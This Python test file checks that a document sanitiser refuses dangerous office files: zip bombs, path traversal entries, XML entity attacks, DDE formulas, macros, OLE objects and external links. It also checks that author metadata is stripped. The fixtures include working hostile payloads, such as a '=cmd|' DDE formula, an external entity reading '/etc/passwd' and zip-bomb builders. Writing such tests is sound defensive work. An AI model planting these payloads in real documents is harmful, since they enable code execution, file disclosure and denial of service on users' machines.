"""Zipped documents: what swells, hides, acts or fetches is refused before anything opens it."""

import io
import struct
import time
import zipfile

import pytest
from openpyxl import load_workbook

from tests.kernel.files.samples import CANARY, OFFICE_RELATIONS, RELATIONS, docx, odt, replaced, xlsx, zipped

SHEET = "xl/worksheets/sheet1.xml"


def forty_two() -> bytes:
    """An archive of archives of nothing, four deep."""
    inner = zipped([("0", bytes(1_000_000))])
    for depth in range(3):
        inner = zipped([(f"{depth}-{number}.zip", inner) for number in range(16)])
    return inner


def overlapping(size: int = 4_000_000, copies: int = 250) -> bytes:
    """Many names for the same compressed bytes, as the bombs of David Fifield are made."""
    data = bytearray(docx(**{"word/a.xml": bytes(size)}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as package:
        entry = package.getinfo("word/a.xml")
    end = data.rindex(b"PK\x05\x06")
    count, length, at = struct.unpack_from("<HLL", data, end + 10)
    listed = bytes(data[at : at + length])
    start = listed.rindex(b"PK\x01\x02", 0, listed.index(b"word/a.xml"))
    record = listed[start : start + 46 + len("word/a.xml")]
    more = b"".join(record.replace(b"word/a.xml", b"w%08d" % number + b"x") for number in range(copies))
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + copies, count + copies, length + len(more), at, 0)
    assert entry.file_size == size
    return bytes(data[:at]) + listed + more + tail


def lying(size: int = 50_000_000) -> bytes:
    """A member that announces ten bytes and gives many more."""
    data = bytearray(docx(**{"word/a.xml": bytes(size)}))
    at = data.index(b"word/a.xml", data.rindex(b"PK\x05\x06") - 2000) - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    struct.pack_into("<L", data, at + 24, 10)
    return bytes(data)


@pytest.mark.parametrize(
    ("bomb", "words"),
    [
        (lambda: docx(**{"word/a.xml": bytes(300_000_000)}), "trop grand|décompresse"),
        (lambda: docx(**{"word/a.xml": bytes(30_000_000)}), "décompresse"),
        (lying, "abîmé|décompresse"),
        (overlapping, "chevauchent|décompressé"),
        (lambda: docx(**{"word/b.xml": forty_two()}), "archive"),
        (lambda: docx(**{"word/b.bin": forty_two()}), "archive|macros"),
        (lambda: zipped([("[Content_Types].xml", "x"), *((f"a{n}", "") for n in range(3000))]), "trop d’éléments"),
        (lambda: docx(**{"../../etc/passwd": "x"}), "dangereux"),
        (lambda: docx(**{"C:/windows/x.xml": "x"}), "dangereux"),
        (lambda: docx()[:-40], "abîmé"),
    ],
    ids=["ratio", "small ratio", "lying", "overlap", "42.zip", "42.zip as bin", "entries", "path", "drive", "cut"],
)
def test_fault_34_a_zip_bomb_is_refused_before_it_is_unpacked(examined, bomb, words):
    data = bomb()
    started = time.process_time()
    assert any(word in examined(data, "note.docx").refused for word in words.split("|"))
    assert time.process_time() - started < 3


def test_fault_34_42_zip_itself_is_no_document(examined):
    assert examined(forty_two(), "note.docx").refused
    assert examined(forty_two(), "note.zip").refused


def swollen() -> bytes:
    """A workbook of two hundred kilobytes whose one sheet takes ninety-five megabytes once inflated."""
    sheet = parts(xlsx())[SHEET]
    row = b'<row r="3"><c r="A3"><v>1</v></c></row>'
    return replaced(xlsx(), {SHEET: sheet.replace(b"</sheetData>", row * 2_440_000 + b"</sheetData>")})


def test_fault_35_a_workbook_that_swells_is_refused(examined):
    bomb = swollen()
    assert len(bomb) < 400_000
    assert "décompresse" in examined(bomb, "tableau.xlsx").refused


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>'
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'


@pytest.mark.parametrize(
    ("members", "word"),
    [
        ({SHEET: LAUGHS}, "entités"),
        ({SHEET: EXTERNAL}, "entités"),
        ({SHEET: LAUGHS.decode().replace('1.0"', '1.0" encoding="utf-16"').encode("utf-16")}, "entités"),
        ({"xl/externalLinks/externalLink1.xml": "<x/>"}, "liens externes"),
        ({"xl/connections.xml": "<x/>"}, "liens externes"),
        ({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}, "macros"),
        ({"xl/images.dat": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}, "macros"),
        ({"xl/embeddings/oleObject1.bin": b"x"}, "contenu binaire"),
        ({"xl/embeddings/classeur.xml": b"x"}, "objets incorporés"),
        ({"xl/activeX/activeX1.xml": b"x"}, "objets incorporés"),
    ],
    ids=["laughs", "external", "utf-16", "links", "connections", "macros", "hidden ole", "ole", "workbook", "activex"],
)
def test_fault_36_a_workbook_that_would_act_is_refused_with_the_reason(examined, members, word):
    assert word in examined(replaced(xlsx(), members), "tableau.xlsx").refused


def test_fault_36_a_workbook_with_macros_renamed_is_still_one(examined):
    with zipfile.ZipFile(io.BytesIO(xlsx())) as package:
        types = package.read("[Content_Types].xml")
    macro = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    assert "macros" in examined(replaced(xlsx(), {"[Content_Types].xml": macro}), "tableau.xlsx").refused


@pytest.mark.parametrize("formula", ["=cmd|'/c calc'!A0", '=WEBSERVICE("http://x/"&A1)', "=MSEXCEL|'x'!y"])
def test_fault_36_a_formula_that_calls_another_program_is_refused(examined, formula):
    assert "formule" in examined(xlsx(formula), "tableau.xlsx").refused


@pytest.mark.parametrize("formula", ["=SUM(A1:A2)", '=IF(A1="a|b","oui","non")', "='Feuille | 2'!A1"])
def test_ordinary_formulas_are_kept(examined, formula):
    assert not examined(xlsx(formula), "tableau.xlsx").refused


def relation(kind: str) -> str:
    """A relation of a text to somewhere else."""
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r" Type="{OFFICE_RELATIONS}/{kind}" '
        'Target="https://x.example/t" TargetMode="External"/></Relationships>'
    )


@pytest.mark.parametrize("kind", ["image", "oleObject", "frame", "subDocument", "attachedTemplate", "mailMergeSource"])
def test_fault_36_a_text_that_fetches_something_when_opened_is_refused(examined, kind):
    data = docx(**{"word/_rels/document.xml.rels": relation(kind)})
    assert "liens externes" in examined(data, "note.docx").refused


FIELDS = [
    "<w:fldChar/><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd</w:instrText></w:r>",
    '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x&quot; "/>',
    "<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>",
]


@pytest.mark.parametrize("body", FIELDS, ids=["dde in pieces", "picture", "name in numbers"])
def test_fault_36_a_field_that_calls_elsewhere_is_refused(examined, body):
    assert "champ" in examined(docx(body), "note.docx").refused


def test_ordinary_fields_are_kept(examined):
    body = '<w:r><w:instrText> HYPERLINK "https://x" </w:instrText></w:r><w:fldSimple w:instr=" PAGE "/>'
    assert not examined(docx(body), "note.docx").refused


@pytest.mark.parametrize(
    ("content", "members"),
    [
        ("", {"Basic/Standard/Module1.xml": "<x/>"}),
        ("", {"Scripts/python/a.py": "x"}),
        ('<draw:image xlink:href="https://x.example/i.png"/>', {}),
        ('<draw:object xlink:href="../autre.ods"/>', {}),
        ('<table:table-source xlink:href="x"/>', {}),
        ("<office:dde-source/>", {}),
        ("<script:event-listener/>", {}),
        ('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;)"/>', {}),
        ("", {"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}),
    ],
)
def test_fault_36_an_opendocument_that_would_act_is_refused(examined, content, members):
    assert "contient" in (refused := examined(odt(content, **members), "note.odt").refused) or "protégé" in refused


def test_fault_37_one_cell_in_the_last_corner_is_refused(examined):
    with zipfile.ZipFile(io.BytesIO(xlsx())) as package:
        sheet = package.read(SHEET)
    corner = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    bomb = replaced(xlsx(), {SHEET: sheet.replace(b"</sheetData>", corner)})
    assert "démesurément" in examined(bomb, "tableau.xlsx").refused


def test_the_author_of_a_document_is_not_kept(examined):
    for data, name in ((docx(), "note.docx"), (odt(), "note.odt"), (xlsx(), "tableau.xlsx")):
        assert CANARY in b"".join(parts(data).values())
        result = examined(data, name)
        kept = parts(result.kept)
        assert not [part for part, content in kept.items() if CANARY in content], name
        assert result.treatments == ["authors"]
        assert not [part for part in kept if "humbnail" in part]


def parts(data: bytes) -> dict[str, bytes]:
    """What each part of a package holds."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def test_what_a_document_says_is_kept(examined):
    kept = parts(examined(docx("<w:r><w:t>Au fil de l’eau</w:t></w:r>"), "note.docx").kept)
    assert "Au fil de l’eau".encode() in kept["word/document.xml"]
    assert kept["word/_rels/document.xml.rels"] == parts(docx())["word/_rels/document.xml.rels"]
    assert b"attachedTemplate" not in kept["word/settings.xml"] + kept["word/_rels/settings.xml.rels"]
    assert b"officeDocument" in kept["_rels/.rels"]
    book = load_workbook(io.BytesIO(examined(xlsx(), "tableau.xlsx").kept))
    assert [cell.value for cell in book.active[2]] == ["Laval", 12]
    kept = examined(odt(), "note.odt").kept
    assert kept[30:38] == b"mimetype"
    assert parts(kept)["content.xml"] == parts(odt())["content.xml"]


def test_a_signed_document_says_that_its_signature_is_lost(examined):
    signed = odt(**{"META-INF/documentsignatures.xml": "<x/>"})
    assert "unsigned" in examined(signed, "note.odt").treatments


def test_a_document_cleaned_twice_is_the_same(examined):
    once = examined(docx(), "note.docx").kept
    assert examined(once, "note.docx").kept == once


def test_evidence_is_kept_byte_for_byte(examined):
    data = xlsx()
    result = examined(data, "tableau.xlsx", as_is=True)
    assert (result.kept, result.treatments) == (data, [])
